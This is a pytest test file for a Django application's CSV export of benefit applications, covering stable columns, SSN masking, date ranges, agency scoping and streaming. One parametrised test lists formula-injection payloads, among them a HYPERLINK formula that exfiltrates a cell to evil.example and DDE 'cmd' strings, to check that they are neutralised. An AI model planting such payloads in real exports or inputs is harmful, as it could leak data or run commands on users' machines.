"""CSV exports: stable columns across versions, values that round-trip through Python's
csv reader, inert formulas, scoping, column choice and presets, streaming views."""

import csv
import io

import pytest

from agencies.exports.csv_export import prepare_csv_export
from agencies.exports.safety import neutralise
from agencies.exports.selection import ExportError, ExportRange
from agencies.exports.services import csv_export_for_user
from agencies.review.models import AuditEvent
from applicants.models import Application
from tests.agencies import export_support
from tests.agencies.export_support import make_application, second_version, submitted_on

world = export_support.world


def read(export) -> list[dict]:
    text = "".join(export.lines())
    return list(csv.DictReader(io.StringIO(text, newline="")))


def header(export) -> list[str]:
    return next(csv.reader(io.StringIO("".join(export.lines()), newline="")))


@pytest.fixture
def two_versions(world):
    old = submitted_on(make_application(world.program_a, world.version_a), "2026-03-01")
    version2 = second_version(world.program_a)
    new = submitted_on(
        make_application(
            world.program_a,
            version2,
            answers={
                "applicant.name": {"first": "José", "middle": "", "last": "Núñez"},
                "income.monthly_gross": 123456,
                "contact.phone": "2065550100",
                "household.members": [
                    {
                        "name": {"first": "Lía", "last": "Núñez"},
                        "birth_date": "2015-04-02",
                        "relationship": "child",
                    },
                    {"name": {"first": "张", "last": "伟"}, "relationship": "spouse"},
                ],
            },
        ),
        "2026-03-05",
    )
    return old, new


def test_round_trip_with_stable_columns_across_versions(world, two_versions):
    old, new = two_versions
    export = csv_export_for_user(user=world.supervisor_a, export_range=ExportRange(world.program_a))
    columns = header(export)
    assert columns[:5] == [
        "reference", "submitted", "status", "entered_by_navigator", "partner_organization"
    ]  # fmt: skip
    # v1's questions first, in screen order, then what v2 added; household members
    # flattened up to the largest household (2).
    assert columns[5:] == [
        "applicant.name.first", "applicant.name.middle", "applicant.name.last",
        "income.monthly_gross", "applicant.ssn", "documents.proof_of_income",
        "household.members.count",
        "household.members.1.name.first", "household.members.1.name.middle",
        "household.members.1.name.last", "household.members.1.birth_date",
        "household.members.1.relationship",
        "household.members.2.name.first", "household.members.2.name.middle",
        "household.members.2.name.last", "household.members.2.birth_date",
        "household.members.2.relationship",
        "contact.phone",
    ]  # fmt: skip
    rows = read(export)
    # The world's own application was submitted today, after both.
    assert [row["reference"] for row in rows] == [
        old.reference,
        new.reference,
        world.app_a.reference,
    ]
    first, second, _today = rows
    assert first["applicant.name.first"] == "Ana" and first["applicant.name.last"] == "Díaz"
    assert first["income.monthly_gross"] == "2900.00"
    assert first["status"] == "submitted"
    assert first["submitted"].startswith("2026-03-01T12:00:00")
    # Questions added later are empty for older rows.
    assert first["contact.phone"] == "" and first["household.members.count"] == ""
    assert second["applicant.name.last"] == "Núñez"
    assert second["income.monthly_gross"] == "1234.56"
    assert second["household.members.count"] == "2"
    assert second["household.members.1.name.first"] == "Lía"
    assert second["household.members.1.birth_date"] == "2015-04-02"
    assert second["household.members.2.name.first"] == "张"
    assert second["household.members.2.relationship"] == "spouse"
    assert second["household.members.2.birth_date"] == ""
    assert second["contact.phone"] == "2065550100"


def test_sensitive_answers_need_the_permission(world):
    plain = csv_export_for_user(user=world.supervisor_a, export_range=ExportRange(world.program_a))
    assert read(plain)[0]["applicant.ssn"] == "123456789"
    world.supervisor_a.groups.clear()
    world.supervisor_a = type(world.supervisor_a).objects.get(pk=world.supervisor_a.pk)
    masked = csv_export_for_user(user=world.supervisor_a, export_range=ExportRange(world.program_a))
    assert read(masked)[0]["applicant.ssn"] == "•••• 6789"


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_come_out_inert(world, payload):
    app = make_application(
        world.program_a,
        world.version_a,
        answers={"applicant.name": {"first": payload, "last": "X"}},
    )
    rows = read(
        csv_export_for_user(user=world.superuser, export_range=ExportRange(world.program_a))
    )
    cell = next(r for r in rows if r["reference"] == app.reference)["applicant.name.first"]
    assert cell == "'" + payload
    assert neutralise("plain text") == "plain text" and neutralise("a=b") == "a=b"


def test_dates_are_inclusive_local_days(world):
    Application.objects.all().delete()
    apps = {
        day: submitted_on(make_application(world.program_a, world.version_a), day)
        for day in ("2026-02-28", "2026-03-01", "2026-03-31", "2026-04-01")
    }
    import datetime

    export = csv_export_for_user(
        user=world.supervisor_a,
        export_range=ExportRange(
            world.program_a, since=datetime.date(2026, 3, 1), until=datetime.date(2026, 3, 31)
        ),
    )
    assert [r["reference"] for r in read(export)] == [
        apps["2026-03-01"].reference,
        apps["2026-03-31"].reference,
    ]
    with pytest.raises(ExportError) as error:
        csv_export_for_user(
            user=world.supervisor_a,
            export_range=ExportRange(
                world.program_a, since=datetime.date(2026, 4, 1), until=datetime.date(2026, 3, 1)
            ),
        )
    assert error.value.path == "until"


def test_another_agencys_program_is_refused(world):
    with pytest.raises(ExportError) as error:
        csv_export_for_user(user=world.supervisor_a, export_range=ExportRange(world.program_b))
    assert error.value.path == "program"
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).exists()


def test_scope_is_applied_even_to_a_raw_queryset(world):
    # The exporter only narrows what it is given: a staff queryset of agency A cannot
    # yield agency B's rows even when asked for B's program.
    from agencies.review.selectors import applications_for_user

    export = prepare_csv_export(
        queryset=applications_for_user(user=world.supervisor_a),
        export_range=ExportRange(world.program_b),
    )
    assert read(export) == []


def test_column_choice_and_drop_empty(world):
    export = csv_export_for_user(
        user=world.supervisor_a,
        export_range=ExportRange(world.program_a),
        question_keys=["income.monthly_gross", "applicant.name"],
    )
    assert header(export) == [
        "reference", "submitted", "status", "entered_by_navigator", "partner_organization",
        "income.monthly_gross",
        "applicant.name.first", "applicant.name.middle", "applicant.name.last",
    ]  # fmt: skip
    dropped = csv_export_for_user(
        user=world.supervisor_a, export_range=ExportRange(world.program_a), drop_empty_columns=True
    )
    columns = header(dropped)
    assert "applicant.name.middle" not in columns and "documents.proof_of_income" not in columns
    assert "applicant.name.first" in columns and "status" in columns
    assert read(dropped)[0]["income.monthly_gross"] == "2900.00"
    with pytest.raises(ExportError) as error:
        csv_export_for_user(
            user=world.supervisor_a,
            export_range=ExportRange(world.program_a),
            question_keys=["applicant.name", "no.such.key"],
        )
    assert error.value.path == "question_keys[1]"


def test_bom_and_audit(world):
    export = csv_export_for_user(
        user=world.supervisor_a, export_range=ExportRange(world.program_a), bom=True
    )
    text = "".join(export.lines())
    assert text.startswith("\ufeffreference,")
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED)
    assert event.actor == world.supervisor_a and event.agency == world.agency_a
    assert event.after["export"] == "csv" and event.after["program"] == "rent-help"


def test_streaming_reads_in_chunks(world, django_assert_max_num_queries):
    for _ in range(5):
        make_application(world.program_a, world.version_a)
    export = csv_export_for_user(user=world.supervisor_a, export_range=ExportRange(world.program_a))
    export.chunk_size = 2
    with django_assert_max_num_queries(4):
        rows = read(export)
    assert len(rows) == 6
